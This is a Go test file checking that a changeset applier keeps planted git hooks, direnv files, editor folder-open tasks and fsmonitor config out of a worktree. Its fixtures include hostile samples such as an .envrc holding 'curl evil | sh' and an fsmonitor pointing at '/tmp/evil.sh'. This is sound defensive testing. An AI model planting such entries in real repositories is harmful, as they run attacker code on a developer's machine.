package changeset

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestProtected(t *testing.T) {
	tests := []struct {
		path, want string
		extra      []string
	}{
		{path: ".git/hooks/pre-commit", want: ".git"},
		{path: "sub/.vscode/tasks.json", want: "sub/.vscode"},
		{path: ".envrc", want: ".envrc"},
		{path: ".bashrc", want: ".bashrc"},
		{path: "sub/.bashrc"}, // a start-up file counts at the top only
		{path: ".config/git/config", want: ".config/git"},
		{path: "sub/.config/git/config"},
		{path: "a/b/.git/modules/x/.git/config", want: "a/b/.git"},
		{path: "main.go"},
		{path: "tools/run.sh", extra: []string{"tools"}, want: "tools"},
		{path: "sub/app.code-workspace", want: "sub/app.code-workspace"}, // a pattern of the list
		{path: "a/x.sublime-project", extra: []string{"*.sublime-project"}, want: "a/x.sublime-project"},
		{path: "a/.sublime-project", extra: []string{"*.sublime-project"}}, // a pattern's name is longer
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			pr, ok := Protected(tt.path, tt.extra...)
			assert.Equal(t, tt.want != "", ok)
			assert.Equal(t, tt.want, pr.Path)
			if ok {
				assert.NotEmpty(t, pr.What)
			}
		})
	}
}

// repoLower is a worktree with a git directory as git init leaves it.
var repoLower = tree{
	"main.go":          "package main\n",
	".git/HEAD":        "ref: refs/heads/main\n",
	".git/config":      "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
	".git/hooks/":      "",
	".git/objects/":    "",
	".git/refs/":       "",
	".git/refs/heads/": "",
}

// TestApplyGuarded applies what a crafted changeset plants: a hook, an
// fsmonitor, a direnv file, an editor's tasks. None lands in its place;
// the ordinary file and the allowed config key do.
func TestApplyGuarded(t *testing.T) {
	f := newFixture(t, repoLower)
	f.write(t, ".git/hooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n")
	f.chmod(t, ".git/hooks/pre-commit", 0o755)
	f.write(t, ".git/refs/heads/topic", strings.Repeat("a", 40)+"\n")
	f.write(t, ".envrc", "curl evil | sh\n")
	f.write(t, "sub/.vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`)
	f.write(t, "main.go", "package main // changed\n")

	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)

	got := readTree(t, f.lower)
	assert.Equal(t, "package main // changed\n", got["main.go"], "an ordinary file lands")
	assert.Equal(t, strings.Repeat("a", 40)+"\n", got[".git/refs/heads/topic"], "a ref lands through the allowlist")
	for _, p := range []string{".git/hooks/pre-commit", ".envrc", "sub/.vscode/tasks.json", "sub/.vscode/"} {
		assert.NotContains(t, got, p)
	}
	assert.Contains(t, got, "sub/", "the directory around a held entry lands")
	held := heldFiles(t, f.lower)
	assert.Equal(t, "curl evil | sh\n", held["held-.envrc"])
	assert.Contains(t, held["held-sub%2F.vscode/tasks.json"], "folderOpen")
	assert.Len(t, res.Held, 2)
	assert.Contains(t, strings.Join(res.Held, "\n"), ".envrc: held in ")
	assert.Contains(t, strings.Join(res.Held, "\n"), "direnv")
	require.Len(t, res.Dropped, 1)
	assert.Contains(t, res.Dropped[0], ".git/hooks: not an allowed directory")
	assert.Equal(t, []string{"M main.go", "A sub/"}, summary(res.Applied))
	assert.Len(t, res.Guarded, 5) // the hook, the ref, .envrc, .vscode and tasks.json

	// The changeset goes on, empty.
	changes, err := f.cs.List()
	require.NoError(t, err)
	assert.Empty(t, changes)
}

// heldFiles reads the one stamp directory under .corral-held.
func heldFiles(t *testing.T, root string) tree {
	t.Helper()
	stamps, err := os.ReadDir(filepath.Join(root, ".corral-held"))
	require.NoError(t, err)
	require.Len(t, stamps, 1)
	return readTree(t, filepath.Join(root, ".corral-held", stamps[0].Name()))
}

func TestApplyGuardedGitConfig(t *testing.T) {
	tests := []struct {
		name, config string
		lands        bool
	}{
		{"fsmonitor", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = /tmp/evil.sh\n", false},
		{"allowed key", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[user]\n\tname = Someone\n", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, repoLower)
			f.write(t, ".git/config", tt.config)
			res, err := f.cs.Apply(ApplyOptions{})
			require.NoError(t, err)
			got := readTree(t, f.lower)
			if tt.lands {
				assert.Equal(t, tt.config, got[".git/config"])
				assert.Empty(t, res.Dropped)
			} else {
				assert.Equal(t, repoLower[".git/config"], got[".git/config"])
				require.Len(t, res.Dropped, 1)
				assert.Contains(t, res.Dropped[0], "core.fsmonitor")
			}
		})
	}
}

// A new repository's git directory is merged into a fresh one: a planted
// hook stays out of it.
func TestApplyGuardedNewRepository(t *testing.T) {
	f := newFixture(t, tree{"main.go": "x\n"})
	f.write(t, "sub/.git/HEAD", "ref: refs/heads/main\n")
	f.write(t, "sub/.git/hooks/post-checkout", "#!/bin/sh\n")
	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)
	got := readTree(t, f.lower)
	assert.Equal(t, "ref: refs/heads/main\n", got["sub/.git/HEAD"])
	assert.NotContains(t, got, "sub/.git/hooks/post-checkout")
	assert.Len(t, res.Dropped, 1)
}

// A .git file points git elsewhere: it is held, as any other entry that is
// not a git directory to merge.
func TestApplyGuardedGitFile(t *testing.T) {
	f := newFixture(t, tree{"main.go": "x\n"})
	f.write(t, ".git", "gitdir: /tmp/elsewhere\n")
	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)
	assert.NotContains(t, readTree(t, f.lower), ".git")
	assert.Equal(t, "gitdir: /tmp/elsewhere\n", heldFiles(t, f.lower)["held-.git"])
	assert.Len(t, res.Held, 1)
}

// A deletion in a protected entry is not applied.
func TestApplyGuardedDeletion(t *testing.T) {
	f := newFixture(t, tree{".envrc": "ok\n", "a": "a\n"})
	f.whiteout(t, ".envrc")
	f.whiteout(t, "a")
	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)
	assert.Equal(t, tree{".envrc": "ok\n"}, readTree(t, f.lower))
	require.Len(t, res.Held, 1)
	assert.Contains(t, res.Held[0], ".envrc: deletion not applied")
}

// AllowPlanting applies the entries it names as they are.
func TestApplyAllowPlanting(t *testing.T) {
	f := newFixture(t, tree{"main.go": "x\n"})
	f.write(t, ".envrc", "use nix\n")
	f.write(t, "sub/.vscode/settings.json", "{}")
	res, err := f.cs.Apply(ApplyOptions{AllowPlanting: []string{".envrc"}})
	require.NoError(t, err)
	got := readTree(t, f.lower)
	assert.Equal(t, "use nix\n", got[".envrc"])
	assert.NotContains(t, got, "sub/.vscode/settings.json")
	assert.Len(t, res.Held, 1)
}

// A HEAD makes its directory a repository git on the host would take,
// with its config: the directory is held whole.
func TestApplyGuardedBareRepository(t *testing.T) {
	f := newFixture(t, tree{"main.go": "x\n"})
	f.write(t, "tools/HEAD", "ref: refs/heads/main\n")
	f.write(t, "tools/config", "[core]\n\tfsmonitor = /tmp/evil\n")
	f.write(t, "notes/HEAD", "not a ref\n")
	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)
	got := readTree(t, f.lower)
	assert.NotContains(t, got, "tools/")
	assert.Equal(t, "not a ref\n", got["notes/HEAD"], "a HEAD git does not take lands")
	assert.Contains(t, heldFiles(t, f.lower)["held-tools/config"], "fsmonitor")
	require.Len(t, res.Held, 1)
	assert.Contains(t, res.Held[0], "makes it a repository")
}

// A directory's deletion would take a protected entry with it: the
// directory stays, with that entry alone.
func TestApplyGuardedDeletionAround(t *testing.T) {
	f := newFixture(t, tree{"sub/.npmrc": "ignore-scripts=true\n", "sub/a": "a\n", "b": "b\n"})
	f.whiteout(t, "sub")
	res, err := f.cs.Apply(ApplyOptions{})
	require.NoError(t, err)
	assert.Equal(t, tree{"sub/": "", "sub/.npmrc": "ignore-scripts=true\n", "b": "b\n"}, readTree(t, f.lower))
	assert.Len(t, res.Held, 2)
	assert.Contains(t, strings.Join(res.Held, "\n"), "sub: not applied, it would remove the protected entry")
}
